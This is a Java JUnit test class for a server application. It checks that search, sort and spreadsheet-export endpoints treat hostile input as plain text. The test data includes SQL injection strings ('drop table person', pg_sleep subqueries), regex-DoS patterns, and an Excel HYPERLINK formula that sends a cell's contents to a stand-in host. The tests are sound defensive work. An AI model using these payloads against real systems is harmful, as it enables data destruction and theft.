package io.bihuan.server.attack;

import static org.assertj.core.api.Assertions.assertThat;

import io.bihuan.server.database.ServerTest;
import io.bihuan.server.excel.ExcelRow;
import io.bihuan.server.excel.ExcelSheet;
import io.bihuan.server.identity.TestClient;
import io.bihuan.server.identity.TestClient.Answer;
import io.bihuan.server.scope.SecretThings;
import java.io.ByteArrayInputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.transaction.support.TransactionTemplate;
import tools.jackson.databind.JsonNode;

/** Texts that mean something to a database or a spreadsheet, typed where people type: they stay texts. */
@ServerTest(fresh = true)
class FilterTests {

    /** Nothing there is has these letters, so a filter that takes them for letters finds nothing. */
    private static final List<String> WILD = List.of(
            "%", "_____", "%%%%", "\\", "\\%", "' or '1'='1", "'; drop table person; --", ".*", "(.+)+$", "[", "*");

    @LocalServerPort
    private int port;

    private final JdbcClient jdbc;
    private final TransactionTemplate transactions;

    @Autowired
    FilterTests(JdbcClient jdbc, TransactionTemplate transactions) {
        this.jdbc = jdbc;
        this.transactions = transactions;
    }

    private static List<String> searches(TestClient admin) {
        var searches = new ArrayList<String>();
        admin.get("/api/openapi.json").body().get("paths").properties().forEach(path -> {
            for (JsonNode parameter : path.getValue().path("get").path("parameters")) {
                if (parameter.get("name").asString().equals("q")
                        && !path.getKey().contains("sheet")
                        && !path.getKey().endsWith("/workbook")) {
                    searches.add(path.getKey());
                }
            }
        });
        return searches;
    }

    /** How many rows an answer has, however it calls them. */
    private static int rows(JsonNode body) {
        return body.has("total")
                ? body.get("total").asInt()
                : body.has("items")
                        ? body.get("items").size()
                        : body.path("cases").size();
    }

    @Test
    void searchesTakeLettersForLetters() {
        TestClient admin = TestClient.admin(port);
        var things = new SecretThings(admin, jdbc, transactions);
        List<String> searches = searches(admin);
        var found = new TreeSet<String>();
        for (String search : searches) {
            String path = things.named(search).orElseThrow();
            for (String text : WILD) {
                Answer answer = admin.get(path + "?q=" + URLEncoder.encode(text, StandardCharsets.UTF_8));
                if (answer.status() != 200 || rows(answer.body()) != 0) {
                    found.add(path + " finds by " + text + ": " + answer.status() + " " + answer.text());
                }
            }
        }

        assertThat(searches).hasSizeGreaterThan(8).contains("/api/vehicles", "/api/cases", "/api/people", "/api/audit");
        assertThat(found).isEmpty();
        assertThat(rows(admin.get("/api/people?q=").body())).isPositive();
    }

    @Test
    void listsAreOrderedByWhatTheyNameOnly() {
        TestClient admin = TestClient.admin(port);
        for (String sort :
                List.of("password_hash", "id;drop table person", "(select 1)", "id desc,(select pg_sleep(9))")) {
            Answer answer = admin.get("/api/people?sort=" + URLEncoder.encode(sort, StandardCharsets.UTF_8));
            assertThat(answer.code()).as(sort).isEqualTo("sort-unknown");
        }
    }

    @Test
    void aTitleThatIsAFormulaLeavesAsText() {
        String formula = "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"click\")";
        TestClient supervisor = TestClient.admin(port).makePerson("CITY_SUPERVISOR", 1);
        supervisor.fileCase(formula, 2, 1);

        byte[] workbook = supervisor.download("/api/case-sheets?q=HYPERLINK");

        assertThat(sheets(workbook)).doesNotContain("<f>").contains("HYPERLINK");
        List<ExcelRow> rows =
                ExcelSheet.read(new ByteArrayInputStream(workbook)).rows();
        assertThat(rows).hasSize(1);
        assertThat(rows.getFirst().text("标题")).isEqualTo(formula);
    }

    private static String sheets(byte[] workbook) {
        return Zip.entries(workbook).entrySet().stream()
                .filter(entry -> entry.getKey().startsWith("xl/worksheets/"))
                .map(entry -> new String(entry.getValue(), StandardCharsets.UTF_8))
                .collect(Collectors.joining());
    }
}
